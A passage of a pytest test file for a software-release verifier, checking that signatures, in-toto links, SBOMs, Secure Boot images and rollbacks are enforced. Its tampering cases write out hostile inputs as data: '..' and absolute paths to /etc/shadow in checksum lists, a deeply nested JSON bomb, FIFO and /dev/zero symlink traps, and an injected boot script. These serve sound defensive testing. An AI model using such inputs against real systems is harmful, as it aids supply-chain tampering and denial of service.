    data["products"] = ["not", "a", "dict"]
    from securesystemslib.dsse import Envelope as Dsse

    fresh = Dsse(payload=json.dumps(data).encode(), payload_type="application/vnd.in-toto+json", signatures={})
    fresh.sign(CryptoSigner(load_pem_private_key((keys / "attestation/builder.key").read_bytes(), None)))
    link.write_text(json.dumps(fresh.to_dict()))


BOMB = b"[" * 100_000 + b"]" * 100_000
A = "0" * 64
Edit = Callable[[Path, Path, Path], object]
TAMPERING: dict[str, tuple[Edit, int, str, int]] = {
    # case: (edit, failing check, words of its message, exit code)
    "swapped artifact": (lambda r, k, t: shutil.copy(r / "artifacts/debs/debs/mlos-demo-b.deb",
                                                      r / "artifacts/debs/debs/mlos-demo-a.deb"),
                         8, "artifacts/debs/debs/mlos-demo-a.deb: sha256", 1),
    "one flipped byte": (lambda r, k, t: flip_byte(r / "artifacts/rootfs/rootfs.tar"), 8,
                         "artifacts/rootfs/rootfs.tar: sha256", 1),
    "SHA256SUMS edited": (edit_sums, 7, "SHA256SUMS.gpg: bad or unknown signature", 1),
    "signature from another key": (resign_sums, 7, "SHA256SUMS.gpg: bad or unknown signature", 1),
    "signature missing": (lambda r, k, t: (r / "SHA256SUMS.gpg").unlink(), 7, "SHA256SUMS.gpg: missing", 1),
    "link edited after signing": (tamper_rootfs_link, 5, "Step 'rootfs' requires at least '1' links", 1),
    "link by a non-functionary (an unlisted key)": (non_functionary_link, 5,
                                                     "Step 'rootfs' requires at least '1' links", 1),
    "step's link missing": (lambda r, k, t: next((r / "attestations/links").glob("debs.*.link")).unlink(), 5,
                            "debs", 1),
    "threshold not met": (threshold_two, 5, "requires '2' link metadata file(s), found '1'", 1),
    "threshold of two met by one link copied under another name": (duplicate_link, 5,
                                                                    "requires '2' link metadata file(s), found '1'", 1),
    "threshold met by one key under two key ids": (lambda r, k, t: layout_edit(r, k, one_key_twice), 5,
                                                   "one key under two key ids", 1),
    "expired layout": (expired_layout, 4, "expired", 1),
    "layout replayed from another release": (
        lambda r, k, t: layout_edit(r, k, lambda d: d.update(expires="2099-01-01T00:00:00Z")), 2,
        "layout/root.layout: sha256", 1),
    "a link mixed in from another build": (mixed_in_link, 2, ".link: sha256", 1),
    "provenance subject digest wrong": (provenance_wrong_subject, 9,
                                        "rootfs.tar.intoto.json: subjects differ from the step's products", 1),
    "SBOM pointing at another digest": (sbom_other_digest, 10, "describes sha256 " + "1" * 64, 1),
    "SBOM schema-invalid": (sbom_schema_invalid, 10, "'nonsense' is not one of", 1),
    "truncated layout": (lambda r, k, t: (r / "layout/root.layout").write_text('{"payload": "eyJ'), 3,
                         "root.layout: not valid JSON", 2),
    "malformed link": (lambda r, k, t: next((r / "attestations/links").glob("debs.*.link")).write_text("{"), 5,
                       ".link: not valid JSON", 2),
    "malformed provenance": (lambda r, k, t: (r / "attestations/provenance/debs/debs.intoto.json").write_text("[1,"),
                             9, "debs.intoto.json: not valid JSON", 2),
    "malformed SBOM": (lambda r, k, t: (r / "sbom/debs/debs.cdx.json").write_text('{"bomFormat": '), 10,
                       "debs.cdx.json: not valid JSON", 2),
    "image not carrying its upstream product": (swap_bundle_member, 12,
                                                 "binding bundle/bundle.tar → debs/mlos-demo-a.deb: sha256", 1),
    "release.json edited: never parsed, its signature fails": (
        lambda r, k, t: (r / "release.json").write_text('{"stages": '), 1,
        "release.json.gpg: bad or unknown signature", 1),
    "release.json unsigned": (lambda r, k, t: (r / "release.json.gpg").unlink(), 1, "release.json.gpg: missing", 1),
    "release.json signed, a field of the wrong type": (
        lambda r, k, t: signed_by_release_key(r, k, edit=lambda i: i.update(files=["SHA256SUMS"])), 1,
        "files: expected", 2),
    "release.json signed, but expired": (
        lambda r, k, t: signed_by_release_key(r, k, edit=lambda i: i.update(expires="2020-01-01T00:00:00Z")), 1,
        "expired on 2020-01-01", 1),
    "release.json a symlink to /dev/zero": (lambda r, k, t: symlink_zero(r / "release.json"), 1,
                                            "release.json: a symbolic link", 2),
    "release.json a FIFO": (lambda r, k, t: fifo(r / "release.json"), 1, "release.json: a FIFO", 2),
    "a FIFO among the artifacts": (lambda r, k, t: os.mkfifo(r / "artifacts/debs/pipe"), 2,
                                   "artifacts/debs/pipe: a FIFO, which has no place in a release", 1),
    "an unsigned metadata file added": (
        lambda r, k, t: (r / "attestations/provenance/extra.intoto.json").write_text("{}"), 2,
        "attestations/provenance/extra.intoto.json: not signed", 1),
    "artifact replaced by a symlink to an identical file outside": (
        lambda r, k, t: symlink_out(r, t), 8, "artifacts/debs/debs/mlos-demo-a.deb: sha256", 1),
    "injected file claimed as signed after the build": (
        lambda r, k, t: inject_after_build(r, k, t, with_key=False), 1, "release.json.gpg: bad or unknown", 1),
    "injected file claimed as signed after the build, with the archive key": (
        lambda r, k, t: inject_after_build(r, k, t, with_key=True), 13,
        "signed_after_build names debs/evil.sh, which is no repository signature", 1),
    "APT keyring swapped, InRelease re-signed, SHA256SUMS edited": (
        lambda r, k, t: swap_apt_keyring(r, k, t, with_key=False), 7, "SHA256SUMS.gpg: bad or unknown", 1),
    "APT keyring swapped, InRelease re-signed, with the archive key": (
        lambda r, k, t: swap_apt_keyring(r, k, t, with_key=True), 13, "InRelease: bad or unknown signature", 1),
    "InRelease valid for longer than the release (signed)": (extend_in_release, 13,
                                                             "with Valid-Until", 1),
    "SHA256SUMS lists a file twice (signed)": (
        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  debs/debs/mlos-demo-a.deb")), 8,
        "debs/debs/mlos-demo-a.deb is listed twice", 2),
    "SHA256SUMS with a '..' path (signed)": (
        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  debs/../../etc/shadow")), 8,
        "has an empty, '.' or '..' component", 2),
    "SHA256SUMS with an absolute path (signed)": (
        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  /etc/shadow")), 8, "an absolute path", 2),
    "SHA256SUMS with a trailing space (signed)": (
        lambda r, k, t: signed_by_release_key(r, k, sums_with(r, f"{A}  debs/debs/x.deb ")), 8,
        "begins or ends with whitespace", 2),
    "SBOM a JSON bomb (100,000 nested arrays)": (lambda r, k, t: (r / "sbom/debs/debs.cdx.json").write_bytes(BOMB),
                                                 10, "debs.cdx.json: not valid JSON", 2),
    "release.json a JSON bomb, signed": (lambda r, k, t: sign_raw(r, k, "release.json", BOMB), 1,
                                         "release.json: not valid JSON", 2),
    "release.json not UTF-8, signed": (lambda r, k, t: sign_raw(r, k, "release.json", b"\xff\xfe{\x00"), 1,
                                       "release.json: not valid JSON", 2),
    "bindings of the wrong types, owner-signed": (
        lambda r, k, t: owner_signed_bindings(r, k, {"bindings": [1, "two"], "expires": "2099-01-01T00:00:00Z"}),
        12, "bindings.json: no bindings list", 2),
    "a link of the wrong field types, builder-signed": (link_of_wrong_types, 5, "a link cannot be read", 2),
    "malformed bindings": (lambda r, k, t: (r / "layout/bindings.json").write_text("{}"), 12,
                           "bindings.json: not a DSSE envelope", 2),
    "a stage directory's SHA256SUMS lists another digest (signed)": (
        stage_sums_edited, 8, "artifacts/rootfs/SHA256SUMS: differs from the lines SHA256SUMS lists for rootfs/", 1),
    "a stage directory's SHA256SUMS signed by another key": (
        lambda r, k, t: stage_sums_edited(r, k, t, signer_home=other_key(t)), 7,
        "rootfs/SHA256SUMS.gpg: bad or unknown signature", 1),
    "a stage directory's SHA256SUMS removed (release.json signed again)": (
        lambda r, k, t: stage_sums_edited(r, k, t, remove=True), 8, "artifacts/rootfs/SHA256SUMS: missing", 1),
    "signed EFI image altered after signing (archive key)": (
        efi_altered, 15,
        "artifacts/efi/secureboot/toy.efi: no Secure Boot signature that db.crt verifies", 1),
    "the unsigned EFI image shipped as the signed one (archive key)": (
        efi_unsigned, 15, "artifacts/efi/secureboot/toy.efi: no Secure Boot signature that db.crt verifies", 1),
    "another EFI image signed with the db key (archive key)": (
        lambda r, k, t: efi_signed_again(r, k, t, other_image=True), 15,
        "with its signature removed, it is not the attested efi/toy.efi", 1),
    "the EFI image signed by another db key, its certificate swapped in (archive key)": (
        lambda r, k, t: efi_signed_again(r, k, t, other_key=True), 15,
        "but the owner signed", 1),
    "the signed EFI image dropped (archive key)": (
        efi_dropped, 15, "artifacts/efi/secureboot/toy.efi: missing (release.json's signed_after_build", 1),
    "the signed EFI image not as SHA256SUMS lists it": (
        lambda r, k, t: flip_byte(r / SIGNED_EFI), 15,
        "artifacts/efi/secureboot/toy.efi: not checked: missing, or not as SHA256SUMS lists it", 1),
    "bindings naming no db certificate, owner-signed": (
        lambda r, k, t: owner_signed_bindings(r, k, {"bindings": [], "expires": "2099-01-01T00:00:00Z"}), 15,
        "names no Secure Boot db certificate", 1),
    "a signed disk's other ESP file changed (archive key)": (
        lambda r, k, t: medium_edited(r, k, t, esp_file=("boot/grub.cfg", b"set root=elsewhere\n")), 16,
        "media/secureboot/disk.raw: its EFI system partition's BOOT/GRUB.CFG is not the attested image's", 1),
    "a signed disk changed outside its ESP (archive key)": (
        lambda r, k, t: medium_edited(r, k, t, outside=True), 16,
        "disk.raw: differs from the attested image at byte 5242880, outside its EFI system partition", 1),
    "a signed qcow2 changed outside its ESP (archive key)": (
        lambda r, k, t: medium_edited(r, k, t, outside=True, qcow2=True), 16,
        "disk.qcow2: differs from the attested image at byte 5242880", 1),
    "a signed disk with a new file in its ESP (archive key)": (
        lambda r, k, t: medium_edited(r, k, t, esp_file=("startup.nsh", b"fs0:\\evil.efi\n")), 16,
        "its EFI system partition's STARTUP.NSH is not the attested image's", 1),
    "a signed disk booting the unsigned image (archive key)": (
        lambda r, k, t: medium_booting(r, k, t, "efi/secureboot/toy.efi"), 16,
        "disk.raw: its EFI/BOOT/BOOTX64.EFI is not the signed EFI image media.json names", 1),
    "a signed disk booting the unsigned image, media.json naming it (archive key)": (
        lambda r, k, t: medium_booting(r, k, t, "efi/toy.efi"), 16,
        "boots 'efi/toy.efi', which is no signed EFI image check 15 accepted", 1),
    "a signed disk's ESP no longer a FAT file system (archive key)": (
        medium_esp_wiped, 16, "its EFI system partition is not a FAT file system any more", 1),
    "a signed qcow2 that no media.json describes (archive key)": (
        medium_undescribed, 16, "artifacts/media/secureboot/disk.qcow2: no media.json describes it", 1),
    "a media.json of another shape (archive key)": (
        medium_misshapen, 16, 'artifacts/media/secureboot/media.json: expected {"media": {IMAGE: ', 2),
    "a signed qcow2 with a backing file (archive key)": (
        medium_with_backing_file, 16, "refers to a file outside it", 1),
    "malformed SHA256SUMS": (lambda r, k, t: (r / "SHA256SUMS").write_text("not a sum line\n"), 8,
                             "SHA256SUMS:1: expected 'SHA256  NAME'", 2),
}


@pytest.mark.parametrize("case", sorted(TAMPERING))
def test_verify_rejects_tampering(case: str, honest: Path, keys: Path, tmp_path: Path) -> None:
    edit, check_number, words, exit_code = TAMPERING[case]
    rel = tmp_path / "rel"
    shutil.copytree(honest, rel, symlinks=True)
    try:
        edit(rel, keys, tmp_path)
    finally:
        # The agent other_key()'s GnuPG home started.
        if (tmp_path / "other-gnupg").is_dir():
            subprocess.run(["gpgconf", "--homedir", str(tmp_path / "other-gnupg"), "--kill", "gpg-agent"], check=False)
    code, report, err = verify(rel, keys)
    assert code == exit_code, (report, err)
    problems = failed(report)
    assert check_number in problems, problems
    assert words in problems[check_number], problems


def test_the_signed_efi_image_is_the_attested_one_and_its_certificate_pinnable(honest: Path, keys: Path,
                                                                               tmp_path: Path) -> None:
    """What check 15 stands on, by sbsigntool itself; and --db-cert, the certificate a user's
    machines enrol, pins it."""
    db = honest / "artifacts/efi/secureboot"
    assert subprocess.run(["sbverify", "--cert", str(db / "db.crt"), str(db / "toy.efi")],
                          capture_output=True).returncode == 0
    stripped = tmp_path / "stripped.efi"
    shutil.copyfile(db / "toy.efi", stripped)
    subprocess.run(["sbattach", "--remove", str(stripped)], check=True, capture_output=True)
    assert stripped.read_bytes() == (honest / "artifacts/efi/toy.efi").read_bytes()
    assert (db / "db.cer").read_bytes() == (keys / "secureboot/db.cer").read_bytes()
    info = json.loads((honest / "release.json").read_text())
    assert {"efi/secureboot/toy.efi", "efi/secureboot/db.crt"} <= set(info["signed_after_build"])

    common = ("--root-key", keys / "attestation/owner.pub.json", "--keyring", keys / "archive-keyring.gpg", "--json")
    pinned = mlos("verify", honest, *common, "--db-cert", keys / "secureboot/db.cer")
    assert pinned.code == 0, pinned.stdout
    from mlos_repro.sign import secureboot

    other = secureboot.generate(tmp_path / "other", "Another deployment's db key")
    refused = mlos("verify", honest, *common, "--db-cert", other.cert)
    assert refused.code == 1
    assert "is not the certificate --db-cert gives" in failed(json.loads(refused.stdout))[15]
    missing = mlos("verify", honest, *common, "--db-cert", tmp_path / "absent.crt")
    assert missing.code == 2 and "--db-cert" in missing.stderr and "absent.crt: no such file" in missing.stderr


def test_verify_iso_of_a_signed_medium_shows_what_it_was_made_from(honest: Path, keys: Path, tmp_path: Path) -> None:
    """The copy for Secure Boot machines has no SBOM of its own: verify-iso shows the attested
    image's facts, through the media.json the signed SHA256SUMS lists, and says so; a media.json
    that is not the signed one, or not of its shape, is refused."""
    keyring = keys / "archive-keyring.gpg"
    attested = mlos("verify-iso", honest / "artifacts/media/disk.raw", "--keyring", keyring, "--json")
    signed = mlos("verify-iso", honest / SIGNED_DISK, "--keyring", keyring, "--json")
    assert attested.code == 0 and signed.code == 0, (attested.stderr, signed.stderr)
    mine, theirs = json.loads(signed.stdout), json.loads(attested.stdout)
    assert mine["listed_as"] == "media/secureboot/disk.raw" and mine["sha256"] != theirs["sha256"]
    assert mine["facts"] == theirs["facts"] and "packages" in mine["facts"], mine
    assert any(n.startswith("kernel and packages are those of media/disk.raw: this image is that one with "
                            "efi/secureboot/toy.efi as its boot loader") for n in mine["notes"]), mine["notes"]

    rel = tmp_path / "release"
    shutil.copytree(honest, rel, symlinks=True)
    media = json.loads((rel / MEDIA_JSON).read_text())
    (rel / MEDIA_JSON).write_text(json.dumps({"media": {"disk.qcow2": media["media"]["disk.qcow2"]}}))
    changed = mlos("verify-iso", rel / SIGNED_DISK, "--keyring", keyring)
    assert changed.code == 1 and "media.json: not the media.json the signed SHA256SUMS lists" in changed.stderr, \
        changed.stderr
    (rel / MEDIA_JSON).unlink()
    missing = mlos("verify-iso", rel / SIGNED_DISK, "--keyring", keyring, "--json")
    assert missing.code == 0, missing.stderr
    found = json.loads(missing.stdout)
    assert "packages" not in found["facts"] and any("needs " in n and "media.json" in n for n in found["notes"])
    misshapen = tmp_path / "misshapen"
    shutil.copytree(honest, misshapen, symlinks=True)
    medium_misshapen(misshapen, keys, tmp_path)
    refused = mlos("verify-iso", misshapen / SIGNED_DISK, "--keyring", keyring)
    assert refused.code == 1 and 'media.json: expected {"media": {IMAGE: ' in refused.stderr, refused.stderr


def test_the_signed_disk_is_the_attested_one_booting_the_signed_efi_image(honest: Path, tmp_path: Path) -> None:
    """What check 16 stands on, by mtools and qemu-img: the signed disk's boot loader is the
    signed EFI image, its other ESP file and its other partition are the attested image's, and
    its qcow2 holds the same disk."""
    media = honest / "artifacts/media"
    esp = 2048 * 512
    for disk in (media / "disk.raw", media / "secureboot/disk.raw"):
        loader = tmp_path / f"{disk.parent.name}-loader"
        subprocess.run(["mcopy", "-i", f"{disk}@@{esp}", "::/EFI/BOOT/BOOTX64.EFI", str(loader)], check=True)
        config = subprocess.run(["mtype", "-i", f"{disk}@@{esp}", "::/boot/grub.cfg"], check=True,
                                capture_output=True, text=True).stdout
        assert config == "set timeout=0\n"
        assert disk.read_bytes()[10240 * 512:][:20] == b"the root file system"
    assert (tmp_path / "media-loader").read_bytes() == b"a boot loader to be replaced\n"
    assert (tmp_path / "secureboot-loader").read_bytes() == (honest / "artifacts/efi/secureboot/toy.efi").read_bytes()
    same = subprocess.run(["qemu-img", "compare", "-f", "qcow2", "-F", "raw", str(media / "secureboot/disk.qcow2"),
                           str(media / "secureboot/disk.raw")], capture_output=True, text=True)
    assert same.returncode == 0, same.stdout
    assert json.loads((media / "secureboot/media.json").read_text())["media"]["disk.raw"] == {
        "efi": "efi/secureboot/toy.efi", "loader": "EFI/BOOT/BOOTX64.EFI"}
    info = json.loads((honest / "release.json").read_text())
    assert {"media/secureboot/disk.raw", "media/secureboot/disk.qcow2",
            "media/secureboot/media.json"} <= set(info["signed_after_build"])


def test_verify_rejects_a_layout_signed_by_another_key(honest: Path, keys: Path) -> None:
    code, report, _ = verify(honest, keys, root_key=keys / "attestation/builder.pub.json")
    assert code == 1
    assert "not signed by the root key" in failed(report)[3]
    # Everything that depends on the layout says so instead of passing.
    assert "not checked: layout signature failed" in failed(report)[5]


def test_verify_iso_gives_one_verdict(honest: Path, keys: Path, built: tuple[Path, Path], shared_store: Path,
                                      tmp_path: Path, unique: str) -> None:
    keyring = keys / "archive-keyring.gpg"
    artifact = honest / "artifacts/rootfs/rootfs.tar"
    ok = mlos("verify-iso", artifact, "--keyring", keyring, "--json")
    assert ok.code == 0, ok.stderr
    info = json.loads(ok.stdout)
    assert info["listed_as"] == "rootfs/rootfs.tar" and info["sha256"] == hashlib.sha256(artifact.read_bytes()).hexdigest()
    # Signed facts only: release.json by the archive key, the SBOM as release.json lists it.
    facts = info["facts"]
    assert facts["version"] == json.loads((honest / "release.json").read_text())["version"]
    assert facts["packages"] > 50 and facts["released"] and facts["expires"] > facts["released"]
    assert info["signed_by"] == [f"signed by a key of {keyring}"]
    # Downloaded alone next to the signed sums: found by its name; nothing unsigned is said.
    alone = tmp_path / "download"
    alone.mkdir()
    for name in ("SHA256SUMS", "SHA256SUMS.gpg"):
        shutil.copy(honest / name, alone / name)
    shutil.copy(artifact, alone / "rootfs.tar")
    bare = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keyring, "--json")
    assert bare.code == 0 and json.loads(bare.stdout)["facts"] == {}
    assert "not shown: no release.json" in bare.stderr + bare.stdout
    # Downloaded with its directory's SHA256SUMS: plain gpgv and sha256sum verify it, and so
    # does verify-iso, which also says what release.json (downloaded too) signs.
    plain = tmp_path / "plain"
    plain.mkdir()
    for name in ("rootfs.tar", "SHA256SUMS", "SHA256SUMS.gpg"):
        shutil.copy(honest / "artifacts/rootfs" / name, plain / name)
    gpgv = subprocess.run(["gpgv", "--keyring", keyring, "SHA256SUMS.gpg", "SHA256SUMS"], cwd=plain,
                          capture_output=True, text=True)
    assert gpgv.returncode == 0 and "Good signature" in gpgv.stderr, gpgv.stderr
    check = subprocess.run(["sha256sum", "-c", "--ignore-missing", "SHA256SUMS"], cwd=plain,
                           capture_output=True, text=True)
    assert check.returncode == 0 and check.stdout == "rootfs.tar: OK\n", check
    for name in ("release.json", "release.json.gpg"):
        shutil.copy(honest / name, plain / name)
    with_info = mlos("verify-iso", plain / "rootfs.tar", "--keyring", keyring, "--json")
    assert with_info.code == 0, with_info.stderr
    found = json.loads(with_info.stdout)
    assert found["listed_as"] == "rootfs/rootfs.tar" and found["facts"]["version"] == facts["version"]
    flip_byte(plain / "rootfs.tar")
    check = subprocess.run(["sha256sum", "-c", "--ignore-missing", "SHA256SUMS"], cwd=plain,
                           capture_output=True, text=True)
    assert check.returncode == 1 and "rootfs.tar: FAILED" in check.stdout
    # One flipped byte.
    flip_byte(alone / "rootfs.tar")
    bad = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keyring)
    assert bad.code == 1 and "is not what the signed SHA256SUMS lists" in bad.stderr
    # An older release's signed files replayed with a newer artifact.
    recipes = write_repo(tmp_path / "newer", STAGES.replace("@VERSION@", "1.1").replace("opt/dropped/tool.sh",
                                                                                         f"opt/{unique[:6]}"))
    newer_out = tmp_path / "newer-out"
    assert mlos("build", "--recipes", recipes, "--out", newer_out, "--store", shared_store).code == 0
    shutil.copy(newer_out / "rootfs/rootfs.tar", alone / "rootfs.tar")
    replay = mlos("verify-iso", alone / "rootfs.tar", "--keyring", keyring)
    assert replay.code == 1 and "from another release" in replay.stderr
    # The wrong key.
    other = tmp_path / "other.gpg"
    other.write_bytes(b"")
    wrong = mlos("verify-iso", artifact, "--keyring", other)
    assert wrong.code == 1 and "bad or unknown signature" in wrong.stderr


def copy_of(honest: Path, tmp: Path, name: str = "rel") -> Path:
    rel = tmp / name
    shutil.copytree(honest, rel, symlinks=True)
    return rel


ISO = "artifacts/rootfs/rootfs.tar"


def test_verify_iso_says_only_what_is_signed(honest: Path, keys: Path, tmp_path: Path) -> None:
    keyring = keys / "archive-keyring.gpg"
    # An SBOM edited to claim another kernel and 500 packages: not the SBOM release.json lists.
    rel = copy_of(honest, tmp_path, "sbom")
    path = rel / "sbom/rootfs/rootfs.tar.cdx.json"
    sbom = json.loads(path.read_text())
    sbom["components"] += [{"type": "library", "name": f"p{i}", "version": "1"} for i in range(500)]
    path.write_text(json.dumps(sbom))
    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
    assert result.code == 1 and "not the SBOM the signed release.json lists" in result.stderr
    assert "500" not in result.stdout
    # release.json without its signature: the ISO verifies, but no version or kernel is shown.
    rel = copy_of(honest, tmp_path, "unsigned")
    (rel / "release.json.gpg").unlink()
    info = json.loads((rel / "release.json").read_text())
    info["version"] = "99.0"
    (rel / "release.json").write_text(json.dumps(info))
    result = mlos("verify-iso", rel / ISO, "--keyring", keyring, "--json")
    assert result.code == 0 and json.loads(result.stdout)["facts"] == {}
    assert "release.json is not signed" in " ".join(json.loads(result.stdout)["notes"])
    # ... and its signature present but not matching: tampered, refused.
    rel = copy_of(honest, tmp_path, "edited")
    (rel / "release.json").write_text(json.dumps(info))
    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
    assert result.code == 1 and "release.json.gpg: bad or unknown signature" in result.stderr
    # A release.json (signed) of another release beside this SHA256SUMS.
    rel = copy_of(honest, tmp_path, "mixed")
    signed_by_release_key(rel, keys, sums_with(rel, f"{A}  debs/another.deb"))
    shutil.copy(honest / "SHA256SUMS", rel / "SHA256SUMS")
    shutil.copy(honest / "SHA256SUMS.gpg", rel / "SHA256SUMS.gpg")
    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
    assert result.code == 1 and "signed for another SHA256SUMS" in result.stderr
    # Hostile files where SHA256SUMS and release.json should be: refused, never read without end.
    rel = copy_of(honest, tmp_path, "fifo")
    fifo(rel / "release.json")
    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
    assert result.code == 2 and "release.json: a FIFO" in result.stderr
    rel = copy_of(honest, tmp_path, "zero")
    symlink_zero(rel / "SHA256SUMS")
    result = mlos("verify-iso", rel / ISO, "--keyring", keyring)
    assert result.code == 2 and "SHA256SUMS: a symbolic link" in result.stderr
    os.mkfifo(tmp_path / "pipe.iso")
    result = mlos("verify-iso", tmp_path / "pipe.iso", "--keyring", keyring, "--release", honest)
    assert result.code == 2 and "pipe.iso: a FIFO" in result.stderr


def test_verify_iso_refuses_a_rollback(honest: Path, built: tuple[Path, Path], keys: Path, shared_store: Path,
                                       tmp_path: Path) -> None:
    """An honest older release presented after a newer one was seen: refused, by the record of
    what this machine verified and by --min-version."""
    keyring = keys / "archive-keyring.gpg"
    newer = release(built, keys, shared_store, tmp_path / "newer")  # released after `honest`
    state = {"XDG_STATE_HOME": str(tmp_path / "state")}
    assert mlos("verify-iso", newer / ISO, "--keyring", keyring, env=state).code == 0
    assert (tmp_path / "state/mlos-repro/newest-releases.json").is_file()
    old = mlos("verify-iso", honest / ISO, "--keyring", keyring, env=state)
    assert old.code == 1 and "a rollback" in old.stderr and "--accept-older" in old.stderr
    accepted = mlos("verify-iso", honest / ISO, "--keyring", keyring, "--accept-older", env=state)
    assert accepted.code == 0 and "accepted with --accept-older" in accepted.stderr
    assert mlos("verify-iso", newer / ISO, "--keyring", keyring, env=state).code == 0
    version = json.loads((honest / "release.json").read_text())["version"]
    too_old = mlos("verify-iso", newer / ISO, "--keyring", keyring, "--min-version", f"{version}.1")
    assert too_old.code == 1 and f"older than --min-version {version}.1" in too_old.stderr
    assert mlos("verify-iso", newer / ISO, "--keyring", keyring, "--min-version", version).code == 0


def test_a_verdict_needs_a_trust_anchor(honest: Path, keys: Path) -> None:
    root = keys / "attestation/owner.pub.json"
    # The root key alone authenticates nothing outside the in-toto graph.
    alone = mlos("verify", honest, "--root-key", root)
    assert alone.code == 2 and "give a trust anchor" in alone.stderr
    assert mlos("verify-iso", honest / ISO).code == 2
    # A sigstore identity means nothing without its issuer (as sigstore's own CLI has it).
    commands: list[list[str | Path]] = [["verify", honest, "--root-key", root], ["verify-iso", honest / ISO]]
    for command in commands:
        partial = mlos(*command, "--trusted-root", root, "--identity", "someone@example.org")
        assert partial.code == 2 and "--trusted-root, --identity and --issuer go together" in partial.stderr


# -- sigstore: keyless signatures from a local Fulcio + Rekor, verified offline ----------------

@pytest.fixture(scope="module")
def standin() -> Iterator[Standin]:
    instance = Standin()
    yield instance
    instance.close()


@pytest.fixture(scope="module")
def keyless(built: tuple[Path, Path], keys: Path, shared_store: Path, standin: Standin,
            tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("keyless")
    config = work / "trust-config.json"
    config.write_text(json.dumps(standin.trust_config()))
    recipes, out = built
    rel = work / "rel"
    result = mlos("release", "--keys", keys, "--out", rel, "--from", out, "--recipes", recipes, "--store", shared_store,
                  "--release-version", "1.0", "--sigstore", "--trust-config", config, "--identity-token", standin.token(IDENTITY))
    assert result.code == 0, result.stderr
    return rel


IDENTITY = "release@mlos.example"


def verify_keyless(rel: Path, keys: Path, standin: Standin, identity: str = IDENTITY) -> tuple[int, dict[str, Any]]:
    result = mlos("verify", rel, "--root-key", keys / "attestation/owner.pub.json", "--keyring",
                  keys / "archive-keyring.gpg", "--trusted-root", rel / "trusted_root.json", "--identity", identity,
                  "--issuer", standin.issuer, "--json")
    return result.code, json.loads(result.stdout)


def test_keyless_signatures_verify_offline(keyless: Path, keys: Path, standin: Standin, tmp_path: Path) -> None:
    assert (keyless / "SHA256SUMS.sigstore.json").is_file()
    assert (keyless / "attestations/provenance/rootfs/rootfs.tar.intoto.json.sigstore.json").is_file()
    code, report = verify_keyless(keyless, keys, standin)
    assert code == 0, report
    (sigstore_check,) = [c for c in report["checks"] if c["number"] == 11]
    assert sigstore_check["status"] == "passed" and IDENTITY in sigstore_check["note"]
    # The sigstore identity alone, without the OpenPGP key: SHA256SUMS' OpenPGP check is
    # skipped and said so; everything else rests on the keyless signatures.
    alone = mlos("verify", keyless, "--root-key", keys / "attestation/owner.pub.json", "--trusted-root",
                 keyless / "trusted_root.json", "--identity", IDENTITY, "--issuer", standin.issuer, "--json")
    report = json.loads(alone.stdout)
    assert alone.code == 0, report
    assert {c["number"] for c in report["checks"] if c["status"] == "skipped"} == {7, 14}
    assert "trusted_root.json is inside the release it verifies" in alone.stderr
    # The user's one command, with the sigstore identity instead of the OpenPGP key.
    iso = mlos("verify-iso", keyless / "artifacts/rootfs/rootfs.tar", "--trusted-root", keyless / "trusted_root.json",
               "--identity", IDENTITY, "--issuer", standin.issuer)
    assert iso.code == 0, iso.stderr


def test_keyless_bundles_for_another_file_or_identity_are_refused(keyless: Path, keys: Path, standin: Standin,
                                                                  tmp_path: Path) -> None:
    rel = tmp_path / "rel"
    shutil.copytree(keyless, rel)
    # A bundle for another file put in SHA256SUMS' place.
    shutil.copy(rel / "attestations/provenance/debs/debs.intoto.json.sigstore.json", rel / "SHA256SUMS.sigstore.json")
    code, report = verify_keyless(rel, keys, standin)
    assert code == 1
    assert "SHA256SUMS.sigstore.json: Bundle message digest mismatch" in failed(report)[11]
    # A truncated bundle: malformed, exit 2.
    cut = tmp_path / "cut"
    shutil.copytree(keyless, cut)
    bundle = cut / "SHA256SUMS.sigstore.json"
    bundle.write_bytes(bundle.read_bytes()[:100])
    code, report = verify_keyless(cut, keys, standin)
    assert code == 2 and "SHA256SUMS.sigstore.json: not a sigstore bundle" in failed(report)[11]
    # The right bundles, but another identity expected.
    code, report = verify_keyless(keyless, keys, standin, identity="someone@example.org")
    assert code == 1 and "SANs do not match someone@example.org" in failed(report)[11]
    iso = mlos("verify-iso", keyless / "artifacts/rootfs/rootfs.tar", "--trusted-root", keyless / "trusted_root.json",
               "--identity", "someone@example.org", "--issuer", standin.issuer)
    assert iso.code == 1 and "do not match" in iso.stderr
    # Another instance's trusted root: nothing chains to it.
    other = Standin()
    try:
        (tmp_path / "other-root.json").write_text(json.dumps(other.trusted_root()))
    finally:
        other.close()
    result = mlos("verify", keyless, "--root-key", keys / "attestation/owner.pub.json", "--trusted-root",
                  tmp_path / "other-root.json", "--identity", IDENTITY, "--issuer", standin.issuer, "--json")
    assert result.code == 1
    assert failed(json.loads(result.stdout))[11]
    assert failed(json.loads(result.stdout))[1]  # release.json's bundle chains to nothing either
    # A stale trusted root, used offline: this instance's, but its CA and log were valid only
    # until long before the signatures were made.
    stale = json.loads((keyless / "trusted_root.json").read_text())
    for entry in [*stale["certificateAuthorities"], *stale["tlogs"], *stale.get("ctlogs", [])]:
        holder = entry if "validFor" in entry else entry.get("publicKey", {})
        holder["validFor"] = {"start": "2019-01-01T00:00:00Z", "end": "2020-01-01T00:00:00Z"}
    (tmp_path / "stale-root.json").write_text(json.dumps(stale))
    result = mlos("verify", keyless, "--root-key", keys / "attestation/owner.pub.json", "--trusted-root",
                  tmp_path / "stale-root.json", "--identity", IDENTITY, "--issuer", standin.issuer, "--json")
    assert result.code == 1, result.stdout
    assert failed(json.loads(result.stdout))[11] and failed(json.loads(result.stdout))[1]
    iso = mlos("verify-iso", keyless / "artifacts/rootfs/rootfs.tar", "--trusted-root", tmp_path / "stale-root.json",
               "--identity", IDENTITY, "--issuer", standin.issuer)
    assert iso.code == 1, iso.stderr


def test_keyless_signing_without_a_token_says_how(built: tuple[Path, Path], keys: Path, shared_store: Path,
                                                 standin: Standin, tmp_path: Path) -> None:
    recipes, _ = built
